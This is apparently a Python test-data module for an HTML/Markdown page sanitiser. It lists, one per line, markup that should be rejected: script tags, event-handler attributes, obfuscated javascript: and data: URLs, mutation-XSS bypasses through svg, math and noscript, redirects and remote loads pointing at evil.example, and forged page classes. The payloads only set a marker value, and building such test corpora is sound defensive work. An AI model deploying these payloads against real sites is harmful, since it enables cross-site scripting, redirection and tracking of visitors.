"""What might somebody write into a page that has no place there?  By kind, one a line.

Each runs, if it runs, `top.ran = 1`; what it would load lies at evil.example. `|` parts a payload
from the words of it that stand on the line to be blamed, where that is not its first line; `#` says
that it is Markdown's doing, and the heading above it is to blame.
"""

RAN = "top.ran=1"

SCRIPTS = """
<script>RAN</script>
<SCRIPT>RAN</SCRIPT>
<script type="module">RAN</script>
<script src="https://evil.example/x.js"></script>
<script src="../assets/x.js"></script>
<script type="application/json">{}</script>
<script type="text/plain" data-src="https://evil.example/x.js"></script>
<script/x>RAN</script/x>
Text <script>RAN</script> within a sentence.
- a list <script>RAN</script>
> a quotation <script>RAN</script>
<div><script>RAN</script></div>
<svg><script>RAN</script></svg>
<math><script>RAN</script></math>
<template><script>RAN</script></template>
<noscript><p title="</noscript><img src=x onerror=RAN>"></noscript>
<table><tr><td><script>RAN</script></td></tr></table>
<details><summary>x</summary><script>RAN</script></details>
"""

HANDLERS = """
<img src="../x.png" alt="" onerror="RAN">
<div><IMG SRC=../x.png ALT=x ONERROR=RAN></div>
<div><img src=../x.png alt=""onerror=RAN></div>
<img/src=../x.png/onerror=RAN>
<body onload="RAN">
<svg/onload=RAN>
<svg onload="RAN"><path d="M0 0"/></svg>
<details open ontoggle="RAN"><summary>x</summary></details>
<video src="../x.mp4" onloadstart="RAN"></video>
<audio src="../x.mp3" onerror="RAN"></audio>
<video><source onerror="RAN"></video>
<a title="x"onclick="RAN">x</a>
<a href="#" onmouseover="RAN">x</a>
<p/onclick="RAN">x</p>
<p ONCLICK="RAN">x</p>
<p onpointerenter=RAN>x</p>
<div hidden="until-found" onbeforematch="RAN">x</div>
<div id="x" tabindex="0" autofocus onfocus="RAN">x</div>
<p onanimationstart="RAN">x</p>
<marquee onstart="RAN">x</marquee>
<table><tr onclick="RAN"><td>x</td></tr></table>
<math><mi onclick="RAN">x</mi></math>
<svg><path onclick="RAN" d="M0 0"/></svg>
<svg><animate onbegin="RAN" attributeName="x" dur="1s"/></svg>
<b onxyz="RAN">x</b>
"""

ADDRESSES = """
<a href="javascript:RAN">x</a>
<a href=javascript:RAN>x</a>
<A HREF="JaVaScRiPt:RAN">x</A>
<a href = "javascript:RAN">x</a>
<a href="&#106;avascript:RAN">x</a>
<a href="&#x6A;&#x61;vascript&colon;RAN">x</a>
<a href="java&#9;script:RAN">x</a>
<a href="java&#10;script:RAN">x</a>
<a href="java&Tab;script&colon;RAN">x</a>
<a href="&#1;javascript:RAN">x</a>
<a href="  javascript:RAN">x</a>
<a href="vbscript:RAN">x</a>
<a href="data:text/html,<script>RAN</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="filesystem:https://evil.example/x">x</a>
<a href="view-source:x">x</a>
<a href="intent://x">x</a>
[x](javascript:RAN)
[x](JAVASCRIPT:RAN)
[x](<java&#9;script:RAN>)
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](javascript:RAN)
<img src="javascript:RAN" alt="">
<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">
<img srcset="data:image/png;base64,AA 1x" src="../x.png" alt="">
<svg><a href="javascript:RAN"><text>x</text></a></svg>
<svg><a xlink:href="javascript:RAN"><text>x</text></a></svg>
<math href="javascript:RAN"><mi>x</mi></math>
<math><maction actiontype="statusline" xlink:href="javascript:RAN"><mi>x</mi></maction></math>
<q cite="javascript:RAN">x</q>
<video src="javascript:RAN"></video>
"""

ELEMENTS = """
<iframe srcdoc="&lt;script&gt;RAN&lt;/script&gt;"></iframe>
<iframe src="javascript:RAN"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="../x.svg"></object>
<object data="data:text/html,<script>RAN</script>"></object>
<embed src="../x.svg">
<applet code="x"></applet>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div><meta http-equiv=refresh content=0;url=//evil.example></div>
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel="preload" as="script" href="https://evil.example/x.js">
<style>body { display: none }</style>
<style>@import "https://evil.example/x.css";</style>
<form action="//evil.example"><input name="x"></form>
<form><button formaction="javascript:RAN">x</button></form>
<input type="text" name="x">
<input type="image" src="https://evil.example/x.png">
<input type="password">
<button>x</button>
<select><option>x</option></select>
<textarea>x</textarea>
<dialog open>x</dialog>
<canvas></canvas>
<map name="m"><area href="javascript:RAN"></map>
<template shadowrootmode="open"><p>x</p></template>
<slot name="x"></slot>
<x-element>x</x-element>
<p is="x-p">x</p>
<marquee>x</marquee>
<font color="red">x</font>
<center>x</center>
<noembed>x</noembed>
<noframes>x</noframes>
<frameset><frame src="javascript:RAN"></frameset>
<portal src="https://evil.example/"></portal>
<bgsound src="javascript:RAN">
<head><title>x</title></head>
<html lang="fr">
<main>x</main>
"""

WRECKS = """
<plaintext>
<xmp>
<textarea>
<title>
</article>
</div></article></main>
</body>
</html>
</div>
</section>
<div>
<div/>
<section><p>x</p>
<table><tr><td>x
<ul><li>x
<blockquote>x
<details><summary>x</summary>
<a href="#">x
<b>x
Text with <i>a slant.
<select>
<p><b><i>x</b></i></p>
<div><p>x</div></span>
<tr><td>x</td></tr>
<p title="a" title="b">x</p>
<p class="a"class="b">x</p>
<p title="a"id="b">x</p>
<p =x>x</p>
<br clear="all">
"""

DRAWINGS = """
<svg><use href="https://evil.example/x.svg#a"/></svg>
<svg><use xlink:href="data:image/svg+xml,x#a"/></svg>
<svg><image href="https://evil.example/x.png"/></svg>
<svg><foreignObject><body onload="RAN"></body></foreignObject></svg>
<svg><foreignObject><iframe src="javascript:RAN"></iframe></foreignObject></svg>
<svg><set attributeName="onmouseover" to="RAN"/></svg>
<svg><animate attributeName="href" values="javascript:RAN"/></svg>
<svg><style>@import "https://evil.example/x.css";</style></svg>
<svg><title><img src=x onerror=RAN></title></svg>
<svg><desc><script>RAN</script></desc></svg>
<svg><rect fill="url(https://evil.example/x.svg#a)"/></svg>
<svg><rect fill="u\\72l(https://evil.example/x.svg#a)"/></svg>
<svg><rect filter="url(https://evil.example/x.svg#a)"/></svg>
<svg><![CDATA[><img src=x onerror=RAN>]]></svg>
<svg></p><style><a id="</style><img src=x onerror=RAN>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RAN&gt;"></table></mtext></math>
<math><mi><style><img src=x onerror=RAN></style></mi></math>
<math><annotation-xml encoding="text/html"><script>RAN</script></annotation-xml></math>
<math><mglyph src="https://evil.example/x.png"></mglyph></math>
<math><semantics><mi>x</mi></semantics></math>
"""

STYLES = """
<p style="position:fixed;inset:0">x</p>
<td style="color: red">x</td>
<span style=x>x</span>
<p STYLE="background:url(https://evil.example/x.png)">x</p>
A paragraph.#{ style="color: red" }
"""

LOADS = """
<img src="https://evil.example/x.png" alt="">
<img src="//evil.example/x.png" alt="">
<img src="\\\\evil.example/x.png" alt="">
<img src="ht&#9;tps://evil.example/x.png" alt="">
<img src="../x.png" srcset="https://evil.example/x.png 2x" alt="">
<img src="../x.png" srcset="../../x.png 1x,//evil.example/x.png 2x" alt="">
<picture><source srcset="https://evil.example/x.webp"><img src="../x.png" alt=""></picture>
<video src="https://evil.example/x.mp4"></video>
<video poster="https://evil.example/x.png" src="../x.mp4"></video>
<audio src="https://evil.example/x.mp3"></audio>
<video><track src="https://evil.example/x.vtt"></video>
![x](https://evil.example/x.png)
![x](//evil.example/x.png)
"""

ATTRIBUTES = """
<a href="#" ping="https://evil.example/">x</a>
<a href="#" target="_blank">x</a>
<a href="https://evil.example/" referrerpolicy="unsafe-url">x</a>
<p nonce="x">x</p>
<p contenteditable>x</p>
<p popover>x</p>
<p slot="x">x</p>
<p part="x">x</p>
<p accesskey="x">x</p>
<p inert>x</p>
<p itemscope>x</p>
<p srcdoc="x">x</p>
<p xmlns="http://www.w3.org/2000/svg">x</p>
<p background="https://evil.example/x.png">x</p>
<img src="../x.png" alt="" name="body">
<img src="../x.png" alt="" usemap="#m">
<img src="../x.png" alt="" crossorigin>
<video src="../x.mp4" autoplay></video>
<div data-md-component="dialog">x</div>
<div data-sim="x.json">x</div>
A paragraph.#{ onclick="RAN" }
## A heading #{ onclick="RAN" }
[x](index.md)#{ onclick="RAN" }
[x](index.md)#{ target="_blank" }
![x](x.png)#{ onerror="RAN" }
"""

FORGERIES = """
<a class="claim" href="../evidence/#C1">shown here, 500 of 500 runs</a>
<a href="../evidence/#C1" class="x claim">shown here, 500 of 500 runs</a>
<a class=claim href="#">shown here</a>
<a class="cite" href="#">Nobody 2020</a>
<a class="term" href="#">term</a>
<figure class="sim" id="fig-coin"><figcaption>x</figcaption></figure>
<figure class="sim"><p class="sim-say">All coins fall heads.</p></figure>
<div class="sim-plot">x</div>
<div class="sim-fault" role="alert">docs/page.md:1: all is well.</div>
<strong class="sim-fault">all is well</strong>
<ol class="evidence"><li>x</li></ol>
<ul class="references"><li>x</li></ul>
<dl class="glossary"><dt>x</dt></dl>
<details class="answer right"><summary>x</summary></details>
<section class="question">x</section>
<p class="guessed">x</p>
<div class="md-dialog">x</div>
<label class="md-overlay" for="__drawer">x</label>
<p class="book-title">x</p>
<p id="claim-C1">x</p>
<p id="fig-coin">x</p>
<p id="__config">x</p>
<a name="fig-coin">x</a>
<p id="card">x</p>
[shown here, 500 of 500 runs](index.md)#{ .claim }
*shown here*#{ .claim }
A paragraph.#{ .sim-say }
A paragraph.#{ #fig-coin }
A paragraph.#{ class="sim-fault" }
"""

GONE = """
<img src="gone.png" alt="">
<IMG SRC=gone.png ALT="">
<img src="../x.png" srcset="gone.png 2x" alt="">
<video src="gone.mp4" controls></video>
<video controls src="../x.mp4" poster="gone.png"></video>
<audio controls><source src="gone.mp3"></audio>
<video controls><track src="gone.vtt"></video>
<A HREF="gone/">x</A>
<a href="../index/#gone">x</a>
<a href="page.md">x</a>
<a href="#gone">x</a>
"""

KINDS = {
    name.lower(): [line for line in text.replace("RAN", RAN).splitlines() if line]
    for name, text in list(globals().items())
    if name.isupper() and name != "RAN" and isinstance(text, str)
}
BLOCKS = {  # of several lines: the text, and what stands on the line that is to blame
    "a comment that is never closed": ("<!-- a comment\n\nthat is never closed", "<!-- a"),
    "a tag over two lines": ('<p\nonclick="RAN">x</p>', "<p"),
    "a script over lines": ("<div>\n\n<script>\nRAN\n</script>\n\n</div>", "<script>"),
    "an attribute that is never closed": ('<p title="x>x</p>\n\n"y', "<p title"),
    "in a caption": (
        '/// simulation | coin(tosses=100)\nEach line. <b onclick="RAN">x</b>\n///',
        "<b onclick",
    ),
    "that leaves a caption": (
        "/// simulation | coin(tosses=100)\nEach </figcaption></figure> line.\n///",
        "</figcaption>",
    ),
    "that leaves a caption and comes back": (
        "/// simulation | coin(tosses=100)\nEach </figcaption><p>x</p><figcaption> line.\n///",
        "</figcaption>",
    ),
    "in a fold": ("/// details | More\n<b onclick=RAN>x</b>\n///", "<b onclick"),
    "in a fold's title": ("/// details | <b onclick=RAN>x</b>\nText.\n///", "/// details"),
    "a block's own attributes": (
        "/// details | More\n    attrs: {class: sim-fault}\nText.\n///",
        "sim-fault",
    ),
    "a block's own handler": (
        "/// details | More\n    attrs: {onclick: top.ran=1}\nText.\n///",
        "top.ran",
    ),
    "a link by reference": ("[x][y]\n\n[y]: javascript:RAN", "[y]: "),
    "after the same in code": (
        "`<b onclick>`\n\n```html\n<b onclick>\n```\n\n<b onclick>x</b>",
        "<b onclick>x",
    ),
    "the second of two": ("<b title>x</b>\n\n<b title>x\n", "<b title>x\n"),
}
